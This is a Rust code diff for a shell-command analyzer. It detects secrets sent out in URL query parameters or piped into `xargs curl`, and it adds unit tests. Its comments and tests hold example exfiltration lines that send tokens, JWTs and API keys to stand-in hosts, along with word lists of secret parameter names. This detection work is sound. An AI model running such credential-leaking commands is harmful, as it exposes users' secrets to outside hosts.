@@ -94,6 +94,90 @@ pub(crate) fn secret_var_in(raw: &str) -> Option<String> {
         .find(|v| secret_name(v))
 }
 
+/// Words of a URL query parameter's name that say its value is a secret (the names APIs give
+/// their credentials: `key`, `api_key`, `token`, `access_token`, `jwt`, `secret`, `password`,
+/// `pass`, `pwd`, `auth`, `credential`).
+const SECRET_PARAM_WORDS: &[&str] = &[
+    "key",
+    "apikey",
+    "token",
+    "jwt",
+    "secret",
+    "password",
+    "passwd",
+    "pass",
+    "pwd",
+    "auth",
+    "credential",
+    "credentials",
+];
+
+/// Words of a parameter name that make it a handle, not a secret (`pageToken`, `csrf_token`).
+const HANDLE_PARAM_WORDS: &[&str] = &[
+    "page",
+    "next",
+    "continuation",
+    "csrf",
+    "xsrf",
+    "cursor",
+    "sync",
+    "resume",
+    "idempotency",
+    "cache",
+    "sort",
+    "partition",
+];
+
+/// h-out25: the value of a secret-named query parameter (`?key=$STEAM_PUBLISHER_KEY`,
+/// `?jwt=$(cat /tmp/app.jwt)`) given by a variable or a command substitution, in a URL as
+/// written: the variable's name, or the parameter's for a substitution. The parameter's name
+/// says what the value is when the variable's does not ([`secret_name`]).
+pub(crate) fn secret_param_value(raw: &str) -> Option<String> {
+    let (_, query) = raw.split_once('?')?;
+    for pair in query.split('&').take(32) {
+        let Some((name, value)) = pair.split_once('=') else {
+            continue;
+        };
+        let words: Vec<String> = name
+            .split(|c: char| !c.is_ascii_alphanumeric())
+            .flat_map(|w| {
+                // camelCase: `apiKey` → api, key
+                let mut out = Vec::new();
+                let mut cur = String::new();
+                for c in w.chars() {
+                    if c.is_ascii_uppercase() && !cur.is_empty() {
+                        out.push(std::mem::take(&mut cur));
+                    }
+                    cur.push(c.to_ascii_lowercase());
+                }
+                if !cur.is_empty() {
+                    out.push(cur);
+                }
+                out
+            })
+            .collect();
+        let named = words
+            .iter()
+            .any(|w| SECRET_PARAM_WORDS.contains(&w.as_str()));
+        let handle = words
+            .iter()
+            .any(|w| HANDLE_PARAM_WORDS.contains(&w.as_str()));
+        if !named || handle {
+            continue;
+        }
+        let v = value.trim_start_matches(['"', '\'']);
+        if v.starts_with("$(") || v.starts_with('`') {
+            return Some(name.to_string());
+        }
+        if let Some(var) = var_refs(v).into_iter().next() {
+            if v.starts_with('$') {
+                return Some(var);
+            }
+        }
+    }
+    None
+}
+
 /// The variables a command substitution prints by name (`$(printenv NAME)`, printenv(1); `$(echo
 /// $NAME)` is a plain reference): their values stand where the substitution is.
 fn printed_vars(raw: &str) -> Vec<String> {
@@ -324,7 +408,34 @@ pub(crate) fn url_data(a: &mut Analyzer, name: &str, inv: &Inv) {
                 .chain(printed_vars(&op.raw))
                 .find(|v| secret_name(v))
                 .map(|v| format!("<secret {v}>"))
+                .or_else(|| secret_param_value(&op.raw).map(|v| format!("<secret {v}>")))
         };
+        // h-out25: a URL built by `xargs -I{}` from a printed secret piped in (`firebase
+        // login:ci | xargs -I{} curl "https://x/r?t={}"`) sends it: the upload's source is the
+        // program that printed it (or the secret variable echoed).
+        if source.is_none() && op.text.contains("<stdin>") {
+            let target = op
+                .text
+                .split(['?', '$', '<'])
+                .next()
+                .unwrap_or(&op.text)
+                .to_string();
+            let src = match (&op.taint.secret_var, op.taint.producer) {
+                (Some(v), _) => Some(format!("<sent secret {v}>")),
+                // only a printed secret's producer: a list of ids or hashes fed to a URL
+                // (`git log --format=%H | xargs -I{} curl ".../status?sha={}"`) is a query
+                (None, Some(i)) => a
+                    .facts
+                    .commands
+                    .get(i)
+                    .filter(|c| a.facts.secret_prints.iter().any(|p| p.program == c.program))
+                    .map(|c| format!("<piped from {}>", c.program)),
+                (None, None) => None,
+            };
+            if let Some(src) = src {
+                a.upload(name, &target, Some(src), false, &inv.evidence);
+            }
+        }
         if let Some(s) = source {
             let target = op
                 .text
@@ -604,6 +715,31 @@ mod tests {
         assert!(!secret_name("HOME"));
         assert!(!secret_name("API_URL"));
         assert!(!secret_name("VERSION"));
+    }
+
+    #[test]
+    fn secret_named_parameters_given_a_variable_or_a_substitution() {
+        assert_eq!(
+            secret_param_value("https://x.example/v?appid=1&key=$STEAM_PUBLISHER_KEY").as_deref(),
+            Some("STEAM_PUBLISHER_KEY")
+        );
+        assert_eq!(
+            secret_param_value("https://x.example/c?jwt=$(cat /tmp/a.jwt)&i=2").as_deref(),
+            Some("jwt")
+        );
+        assert_eq!(
+            secret_param_value("https://x.example/c?apiKey=${VENDOR_K}").as_deref(),
+            Some("VENDOR_K")
+        );
+        for quiet in [
+            "https://x.example/c?pageToken=$NEXT",
+            "https://x.example/c?q=$QUERY&limit=10",
+            "https://x.example/c?key=literal",
+            "https://x.example/$PATH_PART?x=1",
+            "https://x.example/c?cache_key=$HASH",
+        ] {
+            assert_eq!(secret_param_value(quiet), None, "{quiet}");
+        }
     }
 
     #[test]
